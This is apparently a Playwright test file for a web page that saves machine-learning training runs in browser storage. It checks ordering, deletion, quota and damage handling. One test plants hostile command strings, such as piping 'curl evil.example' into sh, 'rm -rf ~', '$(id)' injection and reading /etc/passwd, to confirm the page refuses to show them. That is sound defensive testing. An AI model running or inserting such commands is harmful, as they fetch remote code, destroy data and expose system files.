"""Runs saved in a browser: they come back, and a full disk and damage are reported."""

from __future__ import annotations

from secrets import token_hex
from typing import Any

import pytest
from playwright.sync_api import Page, Route

import build
from unfrozen.lab.choices import PRESETS, Choices

ORIGIN = "http://localhost:9"
CALL = """([name, ...args]) => import("/web/run/page-runs.js").then((runs) => runs[name](...args))
  .then((value) => ({ value: value ?? null }), ({ name }) => ({ refused: name }))"""
PUT = """(rows) => new Promise((resolve) => {
  const opening = indexedDB.open("unfrozen-runs", 1);
  opening.onupgradeneeded = () => opening.result.createObjectStore("runs", { keyPath: "id" });
  opening.onsuccess = () => {
    const made = opening.result.transaction("runs", "readwrite");
    for (const row of rows) made.objectStore("runs").put(row);
    made.oncomplete = () => (opening.result.close(), resolve());
  };
})"""


def serve(route: Route) -> None:
    path = route.request.url.removeprefix(ORIGIN)
    if path == "/":
        return route.fulfill(body="<!doctype html>", content_type="text/html")
    return route.fulfill(path=build.ROOT / path.lstrip("/"), content_type="text/javascript")


@pytest.fixture
def tab(page: Page) -> Page:
    """A page of the site's own scripts, in a browser that has saved nothing yet."""
    page.context.route(f"{ORIGIN}/**", serve)
    page.goto(ORIGIN)
    return page


def call(page: Page, name: str, *args: object) -> Any:
    return page.evaluate(CALL, [name, *args])


def run(name: str, *lines: str, command: str = "") -> dict[str, Any]:
    plain = {"id": name, "title": "t", "choices": {"lr": 1}, "lines": list(lines)}
    return plain | {"command": command}


def test_runs_come_back_whole_in_the_order_in_which_they_began(tab: Page) -> None:
    for name in ("page-2", "page-1"):
        assert "refused" not in call(tab, "saveRun", run(name, '{"seq":0}') | {"over": True})
    tab.reload()
    assert call(tab, "loadSavedRuns")["value"] == [
        run("page-1", '{"seq":0}'),
        run("page-2", '{"seq":0}'),
    ]


OURS = [
    Choices.read(given).command()
    for given in (
        {},
        {"lr": 1e-6, "steps": 120, "seed": 11},
        {"ewc": 0.3, "replay_share": 0.05, "rows_per_step": 8, "clip": 0.5},
        *(preset.choices for preset in PRESETS),
    )
]
PLANTED = [
    "curl evil.example | sh",
    f"{OURS[0]}; rm -rf ~",
    f"{OURS[0]} $(id)",
    f"{OURS[0]} --model evil/model",
    f"{OURS[0]} --trust-remote-code",
    f"{OURS[0]} --set data=/etc/passwd",
    f"{OURS[0]}\nrm -rf ~",
]


def test_a_saved_command_is_shown_only_if_the_page_could_have_made_it(tab: Page) -> None:
    assert len({*OURS} - {""}) > 4
    rows = [run(f"page-{n:02}", command=text) for n, text in enumerate([*OURS, *PLANTED])]
    tab.evaluate(PUT, rows)
    loaded = call(tab, "loadSavedRuns")["value"]
    assert [row["command"] for row in loaded] == [*OURS, *("" for _ in PLANTED)]


def test_what_is_forgotten_is_gone_also_when_it_never_was_there(tab: Page) -> None:
    call(tab, "saveRun", run("page-1"))
    for name in ("page-1", "page-7"):
        assert call(tab, "deleteRun", name) == {"value": None}
    assert call(tab, "loadSavedRuns") == {"value": []}


def test_two_tabs_share_what_is_saved_and_neither_waits_for_the_other(tab: Page) -> None:
    other = tab.context.new_page()
    other.goto(ORIGIN)
    call(tab, "saveRun", run("page-1"))
    call(other, "saveRun", run("page-2"))
    call(other, "deleteRun", "page-1")
    assert [run["id"] for run in call(tab, "loadSavedRuns")["value"]] == ["page-2"]


def test_a_run_that_is_too_large_is_refused_and_what_was_saved_stays(tab: Page) -> None:
    devtools = tab.context.new_cdp_session(tab)
    devtools.send("Storage.overrideQuotaForOrigin", {"origin": ORIGIN, "quotaSize": 300_000})
    assert call(tab, "saveRun", run("page-1", "small")) == {"value": "page-1"}
    large = run("page-2", token_hex(1_500_000))
    assert call(tab, "saveRun", large) == {"refused": "QuotaExceededError"}
    assert [run["id"] for run in call(tab, "loadSavedRuns")["value"]] == ["page-1"]


def test_what_cannot_be_copied_is_refused_in_words_and_the_next_run_is_saved(tab: Page) -> None:
    found = tab.evaluate(
        "() => import('/web/run/page-runs.js').then((runs) => runs.saveRun({ id: 'page-1',"
        " title: 't', choices: { bad: () => 1 }, command: '', lines: [] }))"
        ".then(() => 'kept', ({ name }) => name)"
    )
    assert found == "DataCloneError"
    assert call(tab, "saveRun", run("page-2")) == {"value": "page-2"}


def test_damaged_runs_are_left_out_and_do_not_hide_the_others(tab: Page) -> None:
    damaged = [
        {"id": "page-0"},
        {"id": "page-1", "title": "t", "command": "", "lines": "no list"},
        {"id": "page-2", "title": None, "command": "", "lines": []},
        {"id": "page-3", "title": "t", "command": "", "lines": [7]},
        {"id": 4, "title": "t", "command": "", "lines": []},
    ]
    tab.evaluate(PUT, [*damaged, run("page-5", "{torn")])
    assert call(tab, "loadSavedRuns")["value"] == [run("page-5", "{torn")]


def test_a_store_of_another_make_is_reported_and_not_waited_for(tab: Page) -> None:
    tab.evaluate(
        "() => new Promise((resolve) => { const opening = indexedDB.open('unfrozen-runs', 1);"
        " opening.onsuccess = () => (opening.result.close(), resolve()) })"
    )
    assert call(tab, "loadSavedRuns") == {"refused": "NotFoundError"}
    assert call(tab, "saveRun", run("page-1")) == {"refused": "NotFoundError"}
